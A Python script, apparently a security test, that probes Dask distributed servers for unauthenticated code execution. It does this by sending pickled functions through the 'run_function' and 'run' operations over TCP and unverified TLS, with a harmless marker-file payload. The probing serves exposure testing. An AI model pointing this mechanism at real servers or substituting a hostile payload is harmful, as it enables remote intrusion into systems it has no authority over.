"""Another user: ``attacker.py FOLDER ADDRESS...`` asks the Dask server at each address to make a file in FOLDER.

Each is asked in several ways, all without its certificate; the files say which of them were open.  Where this process
may, it first becomes the user `nobody`.
"""

import asyncio
import itertools
import os
import ssl
import sys
from contextlib import suppress
from pathlib import Path

from distributed.comm import connect
from distributed.protocol.pickle import dumps
from distributed.security import Security

NOBODY = 65534
SECONDS = 2
OPERATIONS = ("run_function", "run")
"""The one is a scheduler's, the other a worker's or a nanny's."""


def ways():
    """Plain, encrypted, and with a certificate of the attacker's own."""
    contexts = ssl.create_default_context(), Security.temporary().get_connection_args("client")["ssl_context"]
    for context in contexts:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return {"tcp": {}, "tls": {"ssl_context": contexts[0]}, "tls ": {"ssl_context": contexts[1]}}


async def attack(address, protocol, arguments, operation, folder):
    host = address.partition("://")[2]
    file = Path(folder) / f"{operation} by {protocol} {host}"
    with suppress(OSError, TimeoutError, ValueError):  # ValueError: tornado's, of TLS where there is none
        comm = await connect(f"{protocol.strip()}://{host}", timeout=SECONDS, **arguments)
        await comm.write({"op": operation, "function": dumps(file.touch), "reply": True, "wait": True})
        await asyncio.wait_for(comm.read(), SECONDS)


async def main(folder, *addresses):
    every = itertools.product(addresses, ways().items(), OPERATIONS)
    await asyncio.gather(*(attack(address, *way, operation, folder) for address, way, operation in every))


if __name__ == "__main__":
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    asyncio.run(main(*sys.argv[1:]))
